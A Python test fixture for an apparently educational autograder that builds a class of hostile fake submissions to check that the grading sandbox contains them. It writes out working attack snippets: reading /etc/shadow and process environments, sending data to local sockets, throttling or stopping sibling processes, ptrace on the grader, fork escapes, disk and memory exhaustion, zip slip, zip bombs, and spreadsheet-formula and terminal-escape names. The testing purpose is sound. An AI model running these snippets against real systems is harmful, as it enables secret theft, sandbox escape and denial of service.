"""A hostile class: one innocent perfect submission and attackers, one per way a class can be hurt.

Every attacker is the reference ``activations`` module with what it attacks
replaced (and nothing else), or a submission whose shape is the attack (a
huge folder, a zip bomb, a notebook, a hostile name). Each says what it
should cost: the exercises it loses (an attack that hides behind a correct
answer loses nothing, so it keeps full marks only if the attack failed
quietly), and a phrase its report must carry. The consequences, from the
issue that asked for this class:

- other students lose points (``prlimit``/``renice``/``SIGSTOP`` on the
  sibling sandboxes and the grader; overwriting their copies);
- the run is stopped for everyone (``RLIMIT_CPU`` on the grader, huge or
  dripping or malformed replies, escaping processes);
- secrets leave (the grader's environment, its home, ``/etc/shadow``, a
  terminal, the network, unix sockets);
- hidden cases leak (recorded, then raised in a public report);
- reference code leaks through notebook grading;
- the grader's memory and disk are spent (huge answers and exceptions,
  filling the scratch, memfd, an 80 MB folder, a zip bomb, many files);
- names collide or inject (in file names, the terminal, the CSV);

and every attack contained before: exits, crashes, loops, memory bombs,
blocked imports, reading the references or the oracle cache, ctypes,
wrong returns, NaNs, mutated inputs, 50 MB of prints, sockets, killing the
parent, forking away, shadow modules, symlinks, zip slip, lying array
subclasses, XSS, lingering threads and ignored signals.
"""

from __future__ import annotations

import os
import shutil
import textwrap
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from dlkata.autograder import notebooks, registry
from dlkata.autograder.paths import SOLUTIONS, cache_dir

from .hostile import replace_function

TOPIC = registry.topic("activations")
DENSE = registry.get("dense.dense")
EXERCISES = [*TOPIC.exercises, DENSE]
POINTS = {e.name: e.points for e in TOPIC.exercises}
TOTAL = TOPIC.points + DENSE.points
# the reference's backward passes reuse their forward (as students are told to),
# so breaking a forward function costs its backward too
_USERS = {"sigmoid": ["sigmoid_backward"], "softmax": ["softmax_backward"]}

#: The process name (``/proc/PID/comm``, at most 15 bytes) a forked-away grandchild gives itself.
ESCAPEE = f"dlkesc{os.getpid() % 100000}"


@dataclass
class Secrets:
    """What no output may ever hold, and where an attacker would look for it."""

    env_name: str
    env_value: str
    home_file: Path
    home_value: str
    tty: str
    tty_value: str
    udp_port: int
    tcp_port: int
    unix_path: str
    abstract: str

    @property
    def values(self) -> list[str]:
        return [self.env_value, self.home_value, self.tty_value]

    @classmethod
    def unused(cls, folder: Path) -> "Secrets":
        """Placeholders, for building attackers outside the class run."""
        return cls("DLKATA_UNUSED", "", folder / "none", "", "/dev/null", "", 9, 9, str(folder / "none.sock"), "none")


@dataclass
class Attacker:
    """One submission of the class: ``replace`` maps function names to new sources."""

    student: str
    replace: dict[str, str] = field(default_factory=dict)
    lost: tuple[str, ...] = ()  # exercise names (topic activations, or "dense")
    says: dict[str, str] = field(default_factory=dict)  # exercise name -> phrase in its report
    module: str | None = None  # the whole activations.py instead
    build: object = None  # a function (root, attacker, secrets) -> Path, for submissions of another shape
    dense: bool = False  # it also submits dense.py (every other attacker leaves dense out: 0 there)

    def expected(self) -> dict[str, int]:
        lost = set(self.lost)
        for name in self.lost:
            lost.update(_USERS.get(name, []))
        scores = {f"activations.{n}": (0 if n in lost else p) for n, p in POINTS.items()}
        scores[DENSE.id] = DENSE.points if self.dense and "dense" not in lost else 0
        return scores


def _fn(src: str) -> str:
    return textwrap.dedent(src).strip() + "\n"


def make_folder(root: Path, a: Attacker) -> Path:
    ex = root / a.student / "exercises"
    ex.mkdir(parents=True)
    for f in ("__init__.py", "_validate.py", "activations.py", *(["dense.py"] if a.dense else [])):
        shutil.copy(SOLUTIONS / f, ex / f)
    src = (SOLUTIONS / "activations.py").read_text(encoding="utf-8")
    if a.module is not None:
        src = a.module
    for name, new in a.replace.items():
        src = replace_function(src, name, new)
    (ex / "activations.py").write_text(src, encoding="utf-8")
    return root / a.student


def attackers(secrets: Secrets, work: Path) -> list[Attacker]:
    """The class; ``work`` is where the grader unpacks submissions (its siblings' copies)."""
    tanh = "np.tanh(x)"
    return [
        Attacker("honest student", dense=True),
        # -- contained before: keep them so ----------------------------------------------------------
        Attacker("sys_exit", {"relu": "def relu(x):\n    import sys; sys.exit(0)\n"}, ("relu",), {"relu": "SystemExit"}),
        Attacker("os_exit", {"relu_backward": "def relu_backward(dout, x):\n    import os; os._exit(7)\n"},
                 ("relu_backward",), {"relu_backward": "exited with status 7"}),
        Attacker("segfault", {"sigmoid": "def sigmoid(x):\n    import ctypes; ctypes.string_at(0)\n"}, ("sigmoid",),
                 {"sigmoid": "SIGSEGV"}),
        Attacker("infinite_loop", {"sigmoid_backward": "def sigmoid_backward(dout, x):\n    while True:\n        pass\n"},
                 ("sigmoid_backward",), {"sigmoid_backward": "did not finish within"}),
        Attacker("memory_bomb", {"tanh": "def tanh(x):\n    import numpy as np\n    b = np.ones(4 * 10**8)\n"
                                          "    return np.tanh(x)\n"}, ("tanh",), {"tanh": "MemoryError"}),
        Attacker("imports_tf", {"tanh_backward": "def tanh_backward(dout, x):\n    import tensorflow as tf\n"
                                                 "    return tf.zeros(1)\n"}, ("tanh_backward",),
                 {"tanh_backward": "not allowed"}),
        Attacker("reads_reference", {"softmax": f"def softmax(x, axis=-1):\n"
                                                f"    src = open({str(SOLUTIONS / 'activations.py')!r}).read()\n"
                                                "    ns = {}\n    exec(src, ns)\n    return ns['softmax'](x, axis)\n"},
                 ("softmax",), {"softmax": "may not read"}),
        Attacker("reads_oracle_cache", {"softmax": "def softmax(x, axis=-1):\n    import os\n"
                                                   f"    for r, d, f in os.walk({str(cache_dir() / 'oracle')!r}):\n"
                                                   "        pass\n"
                                                   f"    open(os.path.join({str(cache_dir() / 'oracle')!r}, 'x'))\n"},
                 ("softmax",), {"softmax": "may not read"}),
        Attacker("ctypes_open", {"softmax_backward": "def softmax_backward(dout, x, axis=-1):\n    import ctypes\n"
                                 f"    fd = ctypes.CDLL(None).open({str(SOLUTIONS / 'activations.py')!r}.encode(), 0)\n"
                                 "    assert fd >= 0, 'the kernel refused to open the reference'\n"},
                 ("softmax_backward",), {"softmax_backward": "refused to open"}),
        Attacker("returns_list", {"relu": "def relu(x):\n    return [max(v, 0) for v in x.ravel().tolist()]\n"},
                 ("relu",), {"relu": "returned list"}),
        Attacker("wrong_shape", {"relu": "def relu(x):\n    import numpy as np\n    return np.maximum(x, 0).ravel()\n"},
                 ("relu",), {"relu": "shape"}),
        Attacker("returns_nan", {"tanh": "def tanh(x):\n    import numpy as np\n    return np.full_like(x, np.nan)\n"},
                 ("tanh",), {"tanh": "inf/NaN"}),
        Attacker("mutates_input", {"relu": "def relu(x):\n    import numpy as np\n    np.maximum(x, 0, out=x)\n"
                                           "    return x.copy()\n"}, ("relu",), {"relu": "modified its input"}),
        Attacker("prints_50mb", {"tanh": "def tanh(x):\n    import numpy as np\n    print('x' * 50_000_000)\n"
                                         f"    return {tanh}\n"}),
        Attacker("network", {"sigmoid": "def sigmoid(x):\n    import socket\n"
                                        "    socket.create_connection(('127.0.0.1', 9))\n"}, ("sigmoid",),
                 {"sigmoid": "network"}),
        Attacker("kills_parent", {"sigmoid": "def sigmoid(x):\n    import os, signal\n"
                                             "    os.kill(os.getppid(), signal.SIGKILL)\n"}, ("sigmoid",)),
        # a raw fork() skips the audit hook; the grandchild would leave the process group and wait forever
        Attacker("forks_away", {"tanh_backward": _fn(f"""
            def tanh_backward(dout, x):
                import ctypes
                import numpy as np
                libc = ctypes.CDLL(None)
                pid = libc.fork()
                if pid == 0:
                    libc.setsid()
                    libc.prctl(15, {ESCAPEE.encode()!r}, 0, 0, 0)
                    while True:
                        libc.sleep(100)
                assert pid > 0, 'the kernel refused to fork'
                return dout * (1 - np.tanh(x) ** 2)""")}, ("tanh_backward",), {"tanh_backward": "refused to fork"}),
        Attacker("syntax_error", module="def relu(x:\n", lost=tuple(POINTS), says={"relu": "SyntaxError"}),
        Attacker("raises_at_import", module="raise RuntimeError('boom at import')\n", lost=tuple(POINTS),
                 says={"softmax": "boom at import"}),
        Attacker("exits_at_import", module="import sys\nsys.exit(3)\n", lost=tuple(POINTS)),
        Attacker("numpy_patch", module=_numpy_patch_module(), lost=("relu",)),
        Attacker("lying_subclass", {"relu": _fn("""
            def relu(x):
                import numpy as np
                class Liar(np.ndarray):
                    def __eq__(self, other):
                        return np.ones(np.shape(other), bool)
                    def __array_finalize__(self, obj):
                        pass
                return np.zeros_like(x).view(Liar)""")}, ("relu",)),
        Attacker("xss", {"softmax_backward": "def softmax_backward(dout, x, axis=-1):\n"
                                            "    raise ValueError(\"<script>alert('xss')</script>\")\n"},
                 ("softmax_backward",), {"softmax_backward": "script"}),
        Attacker("lingering_thread", {"relu": _fn("""
            def relu(x):
                import threading, time
                import numpy as np
                threading.Thread(target=time.sleep, args=(3600,)).start()
                return np.maximum(x, x.dtype.type(0))""")}),
        Attacker("ignores_signals", {"sigmoid_backward": _fn("""
            def sigmoid_backward(dout, x):
                import signal
                for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGUSR1):
                    signal.signal(s, signal.SIG_IGN)
                while True:
                    pass""")}, ("sigmoid_backward",), {"sigmoid_backward": "did not finish within"}),
        Attacker("shadow_modules", dense=False, build=_shadow_modules),
        Attacker("symlinked", lost=tuple(POINTS), build=_symlinked),
        Attacker("zipslip", lost=tuple(POINTS), says={"relu": "unsafe path"}, build=_zipslip),
        Attacker("학생 김", build=_zipped),
        # -- other students lose points -----------------------------------------------------------------
        Attacker("harms_siblings", {"relu": _fn("""
            def relu(x):
                import ctypes, os
                import numpy as np
                libc = ctypes.CDLL(None, use_errno=True)
                class Rl(ctypes.Structure):
                    _fields_ = [("cur", ctypes.c_uint64), ("max", ctypes.c_uint64)]
                targets = {os.getppid()}
                try:
                    listed = os.listdir("/proc")
                except OSError:
                    listed = []
                for p in listed:
                    try:
                        if p.isdigit() and int(p) != os.getpid() and b"child.py" in open(f"/proc/{p}/cmdline", "rb").read():
                            targets.add(int(p))
                    except OSError:
                        pass
                for pid in targets:
                    libc.prlimit(pid, 7, ctypes.byref(Rl(0, 0)), None)  # no file descriptors: cannot reply
                    libc.prlimit(pid, 9, ctypes.byref(Rl(1 << 20, 1 << 20)), None)  # 1 MB: nothing starts
                    libc.prlimit(pid, 0, ctypes.byref(Rl(1, 1)), None)  # 1 s of CPU: the grader dies
                    libc.setpriority(0, pid, 19)
                    mask = ctypes.c_uint64(1)
                    libc.sched_setaffinity(pid, 8, ctypes.byref(mask))
                    libc.kill(pid, 19)  # SIGSTOP
                return np.maximum(x, x.dtype.type(0))""")}),
        Attacker("corrupts_siblings", {"relu_backward": _fn(f"""
            def relu_backward(dout, x):
                import glob
                import numpy as np
                for path in glob.glob({str(work)!r} + "/*/files/**/activations.py", recursive=True):
                    try:
                        with open(path, "w") as f:
                            f.write("raise SystemExit('corrupted by a classmate')\\n")
                    except OSError:
                        pass
                return np.where(x > 0, dout, dout.dtype.type(0))""")}),
        # -- the run is stopped for everyone -------------------------------------------------------------
        Attacker("huge_reply", {"relu": "def relu(x):\n    import numpy as np\n    return np.ones(12_500_000)\n"},
                 ("relu",), {"relu": "output too large"}),
        Attacker("huge_answers", {"tanh": "def tanh(x):\n    import numpy as np\n    return np.ones(150 * 2**20 // 8)\n"},
                 ("tanh",), {"tanh": "output too large"}),
        Attacker("drips_reply", {"sigmoid": _fn("""
            def sigmoid(x):
                import os, struct, sys, time
                wfd = int(sys.argv[2])
                os.write(wfd, struct.pack("<Q", 1000))
                for _ in range(1000):
                    os.write(wfd, b"x")
                    time.sleep(0.5)""")}, ("sigmoid",), {"sigmoid": "did not finish within"}),
        Attacker("forges_replies", {"softmax": _fn("""
            def softmax(x, axis=-1):
                import os, struct, sys
                wfd = int(sys.argv[2])
                header = b"[" * 200000 + b"]" * 200000
                body = struct.pack("<Q", len(header)) + header
                os.write(wfd, struct.pack("<Q", len(body)) + body)
                raise SystemExit""")}, ("softmax",), {"softmax": "malformed"}),
        Attacker("forges_length", {"relu_backward": _fn("""
            def relu_backward(dout, x):
                import os, struct, sys, time
                os.write(int(sys.argv[2]), struct.pack("<Q", 1 << 62))
                time.sleep(60)""")}, ("relu_backward",), {"relu_backward": "output too large"}),
        # -- secrets leave --------------------------------------------------------------------------------
        Attacker("steals_environ", {"relu": _fn(f"""
            def relu(x):
                import os
                found = [repr(dict(os.environ))]
                for p in os.listdir("/proc") if os.path.isdir("/proc") else []:
                    for name in ("environ", "cmdline"):
                        try:
                            found.append(open(f"/proc/{{p}}/{{name}}", "rb").read().decode(errors="replace"))
                        except OSError:
                            pass
                raise RuntimeError("STOLEN " + " | ".join(s for s in found if {secrets.env_name!r} in s)[:5000])""")},
                 ("relu",)),
        Attacker("steals_files", {"relu_backward": _fn(f"""
            def relu_backward(dout, x):
                import glob, os
                got = []
                paths = ["/etc/shadow", {str(secrets.home_file)!r}, {secrets.tty!r}, "/dev/tty", "/root/.bash_history",
                         "/proc/self/root" + {str(secrets.home_file)!r}, *glob.glob("/dev/pts/*"),
                         *glob.glob(f"/proc/{{os.getppid()}}/fd/*")]
                for p in paths:
                    try:
                        fd = os.open(p, os.O_RDONLY | os.O_NONBLOCK)
                        got.append(p + ": " + os.read(fd, 4096).decode(errors="replace"))
                    except OSError as exc:
                        got.append(p + ": " + type(exc).__name__)
                raise RuntimeError("STOLEN " + " | ".join(got))""")}, ("relu_backward",)),
        Attacker("exfiltrates", {"sigmoid": _fn(f"""
            def sigmoid(x):
                import ctypes, socket
                import numpy as np
                for fam, typ, addr in ((socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {secrets.udp_port})),
                                       (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {secrets.tcp_port})),
                                       (socket.AF_UNIX, socket.SOCK_STREAM, {secrets.unix_path!r}),
                                       (socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + {secrets.abstract!r})):
                    try:
                        s = socket.socket(fam, typ)
                        s.connect(addr)
                        s.send(b"LEAKED")
                    except Exception:
                        pass
                    try:  # the same through libc, past the audit hook
                        libc = ctypes.CDLL(None, use_errno=True)
                        libc.socket(fam, typ, 0)
                    except Exception:
                        pass
                return 1 / (1 + np.exp(-x))""")}),
        Attacker("reaches_grader", {"tanh": _fn("""
            def tanh(x):
                import ctypes, os
                libc = ctypes.CDLL(None, use_errno=True)
                ppid = os.getppid()
                out = []
                out.append(("ptrace", libc.ptrace(16, ppid, None, None)))
                buf = ctypes.create_string_buffer(64)
                class Iov(ctypes.Structure):
                    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
                local, remote = Iov(ctypes.cast(buf, ctypes.c_void_p), 64), Iov(0x400000, 64)
                out.append(("process_vm_readv", libc.process_vm_readv(ppid, ctypes.byref(local), 1,
                                                                      ctypes.byref(remote), 1, 0)))
                pidfd = libc.syscall(434, ppid, 0)
                out.append(("pidfd_getfd", libc.syscall(438, pidfd, 3, 0) if pidfd >= 0 else pidfd))
                for p in (f"/proc/{ppid}/mem", f"/proc/{ppid}/environ", "/proc/self/root/etc/shadow"):
                    try:
                        out.append((p, len(open(p, "rb").read(64))))
                    except OSError as exc:
                        out.append((p, type(exc).__name__))
                raise RuntimeError(f"REACHED {out}")""")}, ("tanh",)),
        # -- hidden cases leak ------------------------------------------------------------------------------
        Attacker("records_hidden", {"relu": _fn("""
            def relu(x):
                import hashlib, os
                import numpy as np
                seen = globals().setdefault("SEEN", [])
                seen.append(hashlib.sha1(np.ascontiguousarray(x).tobytes()).hexdigest()[:12])
                try:
                    with open(os.path.join(os.environ["TMPDIR"], "seen"), "a") as f:
                        f.write(seen[-1] + "\\n")
                except OSError:
                    pass
                return np.maximum(x, x.dtype.type(0))"""),
            "relu_backward": _fn("""
            def relu_backward(dout, x):
                import os
                seen = list(globals().get("SEEN", []))
                try:
                    seen += open(os.path.join(os.environ["TMPDIR"], "seen")).read().split()
                except OSError:
                    pass
                raise RuntimeError("SEEN " + " ".join(seen))""")}, ("relu_backward",), {"relu_backward": "SEEN"}),
        # -- the grader's memory and disk --------------------------------------------------------------------
        Attacker("huge_exception", {"sigmoid_backward": "def sigmoid_backward(dout, x):\n"
                                                        "    raise ValueError('x' * 10**6 + 'THE-END')\n"},
                 ("sigmoid_backward",), {"sigmoid_backward": "xxxx"}),
        Attacker("fills_disk", {"tanh": _fn(f"""
            def tanh(x):
                import os
                import numpy as np
                if globals().get("FILLED"):
                    return {tanh}
                globals()["FILLED"] = True
                block = b"x" * (1 << 20)
                for where in (os.environ.get("TMPDIR", "/tmp"), os.environ.get("NUMBA_CACHE_DIR", "/tmp")):
                    try:
                        os.makedirs(where, exist_ok=True)
                        for i in range(10):
                            with open(os.path.join(where, f"fill{{i}}"), "wb") as f:
                                for _ in range(40):
                                    f.write(block)
                    except OSError:
                        pass
                return {tanh}""")}),
        Attacker("memfd_bomb", {"tanh_backward": _fn("""
            def tanh_backward(dout, x):
                import ctypes, os
                import numpy as np
                libc = ctypes.CDLL(None, use_errno=True)
                fd = libc.syscall(319 if os.uname().machine == "x86_64" else 279, b"bomb", 0)
                if fd >= 0:
                    block = b"x" * (1 << 20)
                    try:
                        for _ in range(3000):
                            os.write(fd, block)
                    except OSError:
                        pass
                return dout * (1 - np.tanh(x) ** 2)""")}),
        Attacker("folder_80mb", lost=tuple(POINTS), says={"relu": "more than 64 MB"}, build=_folder_80mb),
        Attacker("many_files", lost=tuple(POINTS), says={"relu": "more than 2000 files"}, build=_many_files),
        Attacker("zip_bomb", lost=tuple(POINTS), says={"relu": "more than 64 MB"}, build=_zip_bomb),
        # -- the kernel's surface: every call must be refused, so the answer stays right ------------------------
        Attacker("kernel_surface", {"softmax": _fn("""
            def softmax(x, axis=-1):
                import ctypes, os
                import numpy as np
                libc = ctypes.CDLL(None, use_errno=True)
                x86 = os.uname().machine == "x86_64"
                buf = ctypes.create_string_buffer(256)
                tries = {
                    "io_uring_setup": libc.syscall(425, 4, buf),
                    "userfaultfd": libc.syscall(323 if x86 else 282, 0),
                    "keyctl": libc.syscall(250 if x86 else 219, 11, -3, buf, 256),
                    "perf_event_open": libc.syscall(298 if x86 else 241, buf, 0, -1, -1, 0),
                    "personality": libc.syscall(135 if x86 else 92, 0x0040000),
                    "unshare": libc.unshare(0x10000000 | 0x00020000),
                    "mknod": libc.syscall(259 if x86 else 33, -100, b"disk", 0o60600, os.makedev(8, 0)),
                    "shmget": libc.shmget(0, 4096, 0o1000 | 0o666),
                    "mq_open": libc.syscall(240 if x86 else 180, b"/dlkata", 0o100 | 2, 0o600, None),
                    "setuid": libc.syscall(105 if x86 else 146, 0),
                    "pdeathsig off": libc.prctl(1, 0, 0, 0, 0),
                    "tiocsti": libc.ioctl(0, 0x5412, buf),
                    "kill all": libc.kill(-1, 0),
                    "execve": libc.execve(b"/bin/sh", None, None),
                }
                allowed = [k for k, v in tries.items() if v >= 0]
                if allowed:
                    raise RuntimeError(f"ALLOWED {allowed}")
                e = np.exp(x - x.max(axis=axis, keepdims=True))
                return e / e.sum(axis=axis, keepdims=True)""")}),
        # -- reference code through notebook grading ---------------------------------------------------------
        Attacker("nb_dense_only", lost=(*POINTS, "dense"), says={"dense": "needs your activations notebook"},
                 build=_nb_dense_only),
        Attacker("nb_pair", lost=("dense",), says={"dense": "MY OWN RELU"}, dense=True, build=_nb_pair),
        # -- names ---------------------------------------------------------------------------------------------
        Attacker("collide", dense=True),
        Attacker(" collide", dense=True),
        Attacker("=1+1", dense=True),
        Attacker("@SUM(A1)", dense=True),
        Attacker("x\n\x1b[31mFORGED LINE", dense=True),
        Attacker("...", dense=True),
        Attacker("n" * 240, dense=True),
    ]


#: Attacks on what the grader does itself (unpacking, naming, reading replies, judging, timing out,
#: the audit hook and limits the child sets alike in both): the same at every isolation level, so the
#: class graded with the fallback sandbox leaves them out (they are graded with the wall, or alone).
ANY_LEVEL = {"returns_list", "wrong_shape", "returns_nan", "mutates_input", "syntax_error", "raises_at_import",
             "exits_at_import", "numpy_patch", "lying_subclass", "xss", "shadow_modules", "symlinked", "zipslip",
             "학생 김", "folder_80mb", "many_files", "zip_bomb", "huge_exception", "nb_dense_only", "nb_pair",
             "collide", " collide", "=1+1", "@SUM(A1)", "x\n\x1b[31mFORGED LINE", "...", "n" * 240,
             "sys_exit", "infinite_loop", "memory_bomb", "imports_tf", "prints_50mb", "huge_reply", "huge_answers",
             "drips_reply", "forges_replies", "forges_length"}
#: What only the wall holds: the fallback's scratch is a folder on the grader's disk, with no quota
#: (it is removed when the sandbox closes, but filling it costs the disk meanwhile).
WALL_ONLY = {"fills_disk"}


def _numpy_patch_module() -> str:
    # monkeypatching NumPy in the child cannot fool the parent's comparison
    src = (SOLUTIONS / "activations.py").read_text()
    src = src.replace("import numpy as np\n", "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
                      "np.testing.assert_allclose = lambda *a, **k: None\n", 1)
    return replace_function(src, "relu", "def relu(x):\n    return x * 0 + 123.0\n")


def _shadow_modules(root: Path, a: Attacker, secrets: Secrets) -> Path:
    path = make_folder(root, a)
    ex = path / "exercises"
    for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "conftest.py"):
        (ex / name).write_text("raise SystemExit('shadow module ran')\n")
    (ex / "evil.pth").write_text("import os; os._exit(9)\n")
    return path


def _symlinked(root: Path, a: Attacker, secrets: Secrets) -> Path:
    path = make_folder(root, a)
    (path / "exercises" / "activations.py").unlink()
    (path / "exercises" / "activations.py").symlink_to(SOLUTIONS / "activations.py")
    return path


def _zipslip(root: Path, a: Attacker, secrets: Secrets) -> Path:
    with zipfile.ZipFile(root / "zipslip.zip", "w") as zf:
        zf.writestr("../../evil.py", "x = 1\n")
    return root / "zipslip.zip"


def _zipped(root: Path, a: Attacker, secrets: Secrets) -> Path:
    folder = make_folder(root / "zipped", a)
    with zipfile.ZipFile(root / f"{a.student}.zip", "w") as zf:
        for f in (folder / "exercises").iterdir():
            zf.write(f, f"exercises/{f.name}")
    return root / f"{a.student}.zip"


def _folder_80mb(root: Path, a: Attacker, secrets: Secrets) -> Path:
    path = make_folder(root, a)
    with open(path / "exercises" / "data.bin", "wb") as f:
        f.truncate(80 * 1024 * 1024)  # sparse: 80 MB to read, nothing on this disk
    return path


def _many_files(root: Path, a: Attacker, secrets: Secrets) -> Path:
    path = make_folder(root, a)
    extra = path / "exercises" / "junk"
    extra.mkdir()
    for i in range(2500):
        (extra / f"{i}.txt").write_text("")
    return path


def _zip_bomb(root: Path, a: Attacker, secrets: Secrets) -> Path:
    folder = make_folder(root / "bomb", a)
    with zipfile.ZipFile(root / "zip_bomb.zip", "w", zipfile.ZIP_DEFLATED) as zf:
        for f in (folder / "exercises").iterdir():
            zf.write(f, f"exercises/{f.name}")
        zf.writestr("exercises/zeros.bin", b"\0" * (200 * 1024 * 1024))
    return root / "zip_bomb.zip"


def _notebook_with(topic: str, cells: dict[str, str]) -> nbformat.NotebookNode:
    """The topic's nbgrader notebook, solved (as the course's source notebook), with some solution cells replaced."""
    nb = notebooks.build(registry.topic(topic), "en")
    for c in nb.cells:
        grade_id = c.metadata.get("nbgrader", {}).get("grade_id")
        if c.metadata.get("nbgrader", {}).get("solution") and grade_id in cells:
            c.source = cells[grade_id]
    return nb


_DENSE_LEAKS = _fn("""
    def dense(x, kernel, bias=None, activation=None):
        import os
        here = os.path.dirname(os.path.abspath(__file__))
        raise RuntimeError("LEAKED " + open(os.path.join(here, "activations.py")).read()[:1200])""")


def _nb_dense_only(root: Path, a: Attacker, secrets: Secrets) -> Path:
    folder = root / a.student
    folder.mkdir()
    nbformat.write(_notebook_with("dense", {"dense": _DENSE_LEAKS}), str(folder / "dense.ipynb"))
    return folder


def _nb_pair(root: Path, a: Attacker, secrets: Secrets) -> Path:
    folder = root / a.student
    folder.mkdir()
    relu = "# MY OWN RELU\ndef relu(x):\n    x = as_float_array(x, 'x')\n    return np.maximum(x, x.dtype.type(0))\n"
    nbformat.write(_notebook_with("activations", {"relu": relu}), str(folder / "activations.ipynb"))
    nbformat.write(_notebook_with("dense", {"dense": _DENSE_LEAKS}), str(folder / "dense.ipynb"))
    return folder


def build_class(root: Path, secrets: Secrets, work: Path, every: bool = True,
                wall: bool = True) -> tuple[list[Path], dict[str, Attacker]]:
    """The submissions of the class under ``root``: all, or not those in ANY_LEVEL (``every=False``), and not
    those in WALL_ONLY without the wall; their paths and the attackers by student id."""
    paths, by_id = [], {}
    for a in attackers(secrets, work):
        if not every and a.student in ANY_LEVEL or not wall and a.student in WALL_ONLY:
            continue
        path = a.build(root, a, secrets) if a.build else make_folder(root, a)
        paths.append(path)
        by_id[a.student] = a
    return paths, by_id
